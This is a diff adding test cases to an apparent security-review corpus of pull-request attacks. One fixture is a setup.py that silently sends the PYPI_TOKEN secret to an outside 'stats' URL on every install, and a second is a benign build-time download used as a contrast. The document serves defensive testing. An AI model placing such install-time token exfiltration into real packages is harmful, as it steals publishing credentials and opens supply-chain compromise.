@@ -3447,6 +3447,42 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: 'medium', action: ['comment', 'needs_discussion'], findings: ['docker-unpinned-image'] },
   },
   {
+    id: 'attack-setup-py-held-token-in-get-url',
+    description: 'A setup.py that reads the publish token into a name, and two lines on fetches a "stats" URL whose query carries it (`token = os.environ["PYPI_TOKEN"]`, then `urlopen(f"https://…/ping?t={token}")`): the secret leaves on every install and build, as when the URL is built on one line.',
+    fixture: () =>
+      attackPr({
+        repo: 'geo-utils',
+        number: 17190,
+        title: 'Report install statistics',
+        files: [
+          {
+            path: 'setup.py',
+            base: lines('from setuptools import setup', '', 'setup(name="geo-utils", version="2.4.0", packages=["geo_utils"])'),
+            head: lines('import os', 'import urllib.request', 'from setuptools import setup', '', 'token = os.environ.get("PYPI_TOKEN", "")', 'version = "2.4.0"', 'try:', '    urllib.request.urlopen(f"https://stats.pkg-insights.net/ping?v={version}&t={token}", timeout=2)', 'except Exception:', '    pass', '', 'setup(name="geo-utils", version=version, packages=["geo_utils"])'),
+          },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior'] },
+  },
+  {
+    id: 'attack-setup-py-held-version-in-get-url',
+    description: 'The benign look-alike: a setup.py that reads the SDK version and a registry token into names and downloads the SDK archive with the version in its URL: a download at build time (medium), no secret in the URL it fetches.',
+    fixture: () =>
+      attackPr({
+        repo: 'geo-utils',
+        number: 17191,
+        title: 'Fetch the native SDK at build time',
+        files: [
+          {
+            path: 'setup.py',
+            base: lines('from setuptools import setup', '', 'setup(name="geo-utils", version="2.4.0", packages=["geo_utils"])'),
+            head: lines('import os', 'import urllib.request', 'from setuptools import setup', '', 'sdk = os.environ.get("GEO_SDK_VERSION", "3.1.2")', 'token = os.environ["GEO_REGISTRY_TOKEN"]', 'urllib.request.urlretrieve(f"https://downloads.geosdk.io/sdk/geo-sdk-{sdk}.tar.gz", "build/geo-sdk.tar.gz")', '', 'setup(name="geo-utils", version="2.4.0", packages=["geo_utils"])'),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'] },
+  },
+  {
     id: 'attack-test-script-unsets-secret-named-variables',
     description:
       'The benign twin of a secret-named pick: a test script clears every variable named like a token or secret before it runs the suite (`compgen -e | grep -iE \'token|secret\'` fed to `unset`), and masks those it keeps in CI logs; its only request fetches a fixture. Nothing is sent.',
